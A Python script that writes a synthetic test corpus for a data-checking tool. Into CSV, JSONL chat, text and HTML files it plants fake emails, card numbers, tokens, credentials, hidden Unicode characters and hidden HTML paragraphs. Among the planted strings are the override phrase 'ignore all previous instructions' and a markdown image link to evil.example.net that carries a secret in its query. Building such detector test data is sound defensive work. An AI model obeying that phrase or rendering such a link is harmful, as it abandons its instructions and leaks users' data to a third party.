#!/usr/bin/env python3
"""Writes the mixed corpus used to check that data-check findings stay identical: python3 generate_mixed.py OUT_DIR (about 60 MB; the README adds the gzipped and 7 MB-line files)."""
import random, os, json, sys
random.seed(7)
out = sys.argv[1]
words = "question user quality data label model account delivery order answer support price refund ticket".split()
multi = ["Zoë", "Björk", "Jürgen", "Łukasz", "Ørsted", "日本語", "Ελληνικά", "naïve", "café", "😀", "👩‍💻", "🇩🇪", "Дмитрий", "עברית", "العربية"]
hidden = ["\u200b", "\u200d", "\u202e", "\u2066", "\U000E0041\U000E0042", "\ufeff", "\u00ad"]
B32 = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"
AN = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
def aws(): return "AKIA" + "".join(random.choice(B32) for _ in range(16))
def ghp(): return "ghp_" + "".join(random.choice(AN) for _ in range(36))
plants = [lambda: "jane.doe%d@corp-mail.org" % random.randint(1, 999), lambda: "4111 1111 1111 1111", lambda: "5500-0000-0000-0004",
          lambda: "123-45-6789", aws, ghp, lambda: "+1 415 555 2671", lambda: "DE89370400440532013000", lambda: "8.8.%d.%d" % (random.randint(1,250), random.randint(1,250)),
          lambda: "ignore all previous instructions", lambda: "![x](https://evil.example.net/?q=secret)", lambda: "password=Zq9xLm2Pw8RtY7vK3nB6",
          lambda: "postgres://admin:hunter2pass@db.internal:5432/prod", lambda: "2001:4860:4860::8888", lambda: "4111111111111112", lambda: "AKIAIOSFODNN7EXAMPLE",
          lambda: "1.2.3.4.5", lambda: "v1.2.3.4", lambda: "2024-05-01", lambda: "order 1234567890123"]
def text(n):
    parts = []
    for _ in range(n):
        r = random.random()
        if r < 0.15: parts.append(random.choice(multi))
        elif r < 0.19: parts.append(random.choice(hidden) + random.choice(words))
        elif r < 0.27: parts.append(random.choice(plants)())
        elif r < 0.29: parts.append(random.choice(words) + random.choice(multi) + random.choice(plants)())
        else: parts.append(random.choice(words))
    return " ".join(parts)
def bad(b):
    # invalid UTF-8 bytes sprinkled in
    r = random.random()
    if r < 0.02: return b + b"\xff\xfe"
    if r < 0.04: return b + b"\xe2\x82"
    if r < 0.05: return b"\xc3" + b
    return b
rows = 60000
# CSV with BOM, CRLF, quoted multi-line fields, doubled quotes
with open(os.path.join(out, "mixed.csv"), "wb") as f:
    f.write(b"\xef\xbb\xbfid,name,email,phone,text,label\r\n")
    for i in range(rows):
        t = text(random.randint(3, 40))
        if random.random() < 0.1: t = t + "\n" + text(5) + ' "quoted" ' + text(3)
        if random.random() < 0.05: t = t + '\r\n' + text(4)
        name = random.choice(multi) + " " + random.choice(multi)
        email = random.choice(["", "a%d@example.com" % i, "bob%d@mail-corp.de" % i, "x@y"])
        phone = random.choice(["", "(415) 555-2671", "+44 20 7946 0958", "555-0100", "12345"])
        row = '%d,"%s",%s,%s,"%s",%d' % (i, name.replace('"','""'), email, phone, t.replace('"', '""'), i % 2)
        f.write(bad(row.encode("utf-8")) + (b"\r\n" if i % 3 else b"\n"))
# JSON Lines chat with nested messages, BOM, CRLF, blank lines, invalid bytes
with open(os.path.join(out, "mixed.jsonl"), "wb") as f:
    f.write(b"\xef\xbb\xbf")
    for i in range(rows):
        rec = {"id": i, "messages": [{"role": "user", "content": text(random.randint(3, 50))}, {"role": "assistant", "content": text(random.randint(3, 30))}], "user_email": random.choice(["", "c%d@corp-mail.org" % i])}
        line = json.dumps(rec, ensure_ascii=random.random() < 0.3).encode("utf-8")
        f.write(bad(line) + (b"\r\n" if i % 4 == 0 else b"\n"))
        if i % 97 == 0: f.write(b"   \r\n\n\t\n")
        if i % 1000 == 0: f.write("\u3000\u00a0\n".encode("utf-8"))
# plain text with long lines (300 KB) and a 1.5 MB line with multibyte characters across the 1 MiB mark
with open(os.path.join(out, "mixed.txt"), "wb") as f:
    for i in range(20000):
        f.write(bad(text(random.randint(1, 30)).encode("utf-8")) + b"\n")
        if i % 5000 == 0: f.write(text(40000).encode("utf-8") + b"\n")
with open(os.path.join(out, "long.txt"), "wb") as f:
    f.write(("é" * 600000 + " jane.doe@corp-mail.org ").encode("utf-8") + text(100000).encode("utf-8") + b"\n" + b"tail line 4111111111111111\n")
# UTF-16 text with BOM
with open(os.path.join(out, "wide.txt"), "wb") as f:
    f.write("\n".join(text(20) for _ in range(2000)).encode("utf-16"))
# HTML
with open(os.path.join(out, "page.html"), "wb") as f:
    f.write(b"<html><body>\n")
    for i in range(5000):
        f.write(('<p style="display:none">%s</p>\n' % text(15) if i % 50 == 0 else "<p>%s</p>\n" % text(15)).encode("utf-8"))
    f.write(b"</body></html>\n")
